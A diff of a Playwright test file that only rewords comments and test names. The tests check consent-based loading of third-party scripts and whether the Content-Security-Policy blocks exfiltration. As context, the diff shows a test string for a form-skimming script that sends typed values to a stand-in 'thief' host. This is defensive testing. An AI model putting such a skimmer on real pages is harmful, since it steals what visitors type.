@@ -25,7 +25,7 @@ const says =
 const hangs: Conduct = () => new Promise(() => undefined)
 const isBlocked: Conduct = (route) => route.abort('blockedbyclient')
 
-/** What each script of others does; whatever is none of theirs must not be asked for at all. */
+/** Routes each third-party script; any other third-party request fails. */
 const allow = async (context: BrowserContext, conduct: Readonly<Record<Party, Conduct>>) => {
   const asked: { readonly party: Party; readonly url: string; readonly referer: string | undefined }[] = []
   for (const party of parties) {
@@ -46,7 +46,7 @@ const calm: Readonly<Record<Party, Conduct>> = {
 
 const device: readonly Party[] = ['fingerprint', 'preferences']
 
-/** Whom a page may ask, by the visitor's choice. */
+/** The third parties that a page may contact, by consent. */
 const asksAt = (path: string, consent: Consent | null): readonly Party[] => {
   const isFunc = consent === 'func' || consent === 'both'
   const isPubli = consent === 'publi' || consent === 'both'
@@ -57,14 +57,14 @@ const asksAt = (path: string, consent: Consent | null): readonly Party[] => {
   ]
 }
 
-/** The partner is asked on its own page only, and on none of its journeys. */
+/** The partner is contacted on its page only, not in its journeys. */
 const pages = ['/', '/livelo/', '/livelo/checkout/cep/']
 
 for (const consent of [null, 'denied', 'func', 'publi', 'both'] as const) {
   test.describe(`with the choice ${consent ?? 'still to come'}`, () => {
     test.use({ consent })
 
-    test('each page asks those whom the table of purposes allows, and tells them no more than the site', async ({
+    test('each page contacts only the third parties that the consent allows, and sends them nothing more than the site', async ({
       context,
       page,
       addressed: { url: addressed },
@@ -82,15 +82,15 @@ for (const consent of [null, 'denied', 'func', 'publi', 'both'] as const) {
         expect([...cookies.origins].toSorted(), path).toEqual([addressed, ...due.map(originOf)].toSorted())
         for (const { party, url, referer } of asked) {
           expect([undefined, `${addressed}/`], path).toContain(referer)
-          const told = party === 'partner' ? `?url=${encodeURIComponent(addressed + path)}` : ''
-          expect(url).toBe(scripts[party] + told)
+          const query = party === 'partner' ? `?url=${encodeURIComponent(addressed + path)}` : ''
+          expect(url).toBe(scripts[party] + query)
         }
       }
     })
   })
 }
 
-/** What keeps such a script from carrying anything off: a directive for each way out. */
+/** The directives that block a stealing script, one for each way out. */
 const barred = [
   'connect-src',
   'default-src',
@@ -101,7 +101,7 @@ const barred = [
   'style-src-elem',
 ]
 
-/** A script that looks for what is typed and carries it off in every way there is. */
+/** A script that tries to send typed text away in every possible way. */
 const stealing = `
   addEventListener('change', ({ target }) => {
     const loot = '${thief}/?' + encodeURIComponent(target.value)
@@ -142,10 +142,10 @@ const ways = {
 } as const satisfies Readonly<Record<string, Readonly<Record<Party, Conduct>>>>
 
 for (const [what, conduct] of Object.entries(ways)) {
-  test.describe(`scripts of others: ${what}`, () => {
+  test.describe(`third-party scripts: ${what}`, () => {
     test.use({ consent: 'both' })
 
-    test('the purchase ends on an order, without device data, and nothing typed leaves the site', async ({
+    test('the purchase ends with an order, without device data, and no typed data leaves the site', async ({
       context,
       page,
       checkout,
@@ -159,12 +159,14 @@ for (const [what, conduct] of Object.entries(ways)) {
       await page.exposeFunction('noteViolation', (directive: string) => violations.push(directive))
       await page.addInitScript(() =>
         addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
-          (window as unknown as { noteViolation: (told: string) => void }).noteViolation(effectiveDirective),
+          (window as unknown as { noteViolation: (directive: string) => void }).noteViolation(
+            effectiveDirective,
+          ),
         ),
       )
       const asked = await allow(context, conduct)
       const bodies = await noteBodies(page)
-      // Only what steals has to be there whenever something is typed.
+      // Only the stealing script must run while everything is typed.
       const isStealing = what.includes('steals')
       if (isStealing) await checkout.choosePlan()
       else await comeBackTo(checkout, 'data-de-vencimento')
